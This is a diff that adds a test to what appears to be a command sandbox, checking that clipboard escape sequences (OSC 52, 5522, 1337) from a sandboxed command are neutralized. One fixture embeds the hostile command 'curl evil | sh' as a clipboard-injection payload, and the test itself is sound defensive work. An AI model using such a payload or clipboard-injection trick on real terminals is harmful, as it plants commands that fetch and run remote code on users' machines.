@@ -197,3 +197,37 @@ def test_no_pty_restores_terminal(ctx):
                      "stty -echo -icanon raw; echo ready"])
     assert p.wait(30) == 0, p.text()
     _assert_restored(p)
+
+
+CLIP = (b"\x1b]52;c;" + __import__("base64").b64encode(b"curl evil | sh") + b"\x07",
+        b"\x1b]52;c;?\x1b\\",                                   # a read (query)
+        b"\x1b]5522;type=write\x1b\\", b"\x1b]1337;CopyToClipboard=\x07")
+
+
+def test_clipboard_sequences_neutralized(ctx):
+    """What the command writes to its terminal reaches yours byte for byte,
+    except the escape sequences that set or read your clipboard (OSC 52, 5522,
+    1337): their number is rewritten (52 -> 59, ...), so your terminal reads
+    and ignores them.  Other sequences (a title, a hyperlink) pass.  A profile
+    with terminal.clipboard lets them through."""
+    script = ("import sys,os\n"
+              "for s in %r: os.write(1, s)\n"
+              "os.write(1, b'\\x1b]0;title\\x07\\x1b]8;;https://e.test\\x1b\\\\x\\x1b]8;;\\x1b\\\\')\n"
+              "os.write(1, b'\\r\\nDONE\\r\\n')\n" % (CLIP,))
+    p = _run_pty(ctx, [INNER_PY, "-c", script])
+    p.expect(rb"DONE")
+    assert p.wait(15) == 0, p.text()
+    out = bytes(p.buf)
+    for seq in CLIP:
+        assert seq not in out, "a clipboard sequence reached the terminal: %r" % seq
+    for want in (b"\x1b]59;c;", b"\x1b]5529;type=write", b"\x1b]1339;CopyToClipboard="):
+        assert want in out, "expected the neutralized %r in %r" % (want, out[-400:])
+    assert b"\x1b]0;title\x07" in out and b"\x1b]8;;https://e.test" in out, out[-400:]
+    _assert_restored(p)
+    prof = os.path.join(ctx.scratch, "clip.json")
+    ctx.host_file(prof, '{"version": 1, "extends": ["default"], "terminal": {"clipboard": true}}\n')
+    q = PtyRun(ctx, ["run", "-p", prof, "-w", ctx.ws, "--", INNER_PY, "-c", script])
+    q.expect(rb"DONE")
+    assert q.wait(15) == 0, q.text()
+    for seq in CLIP:
+        assert seq in bytes(q.buf), "terminal.clipboard: %r did not pass" % seq
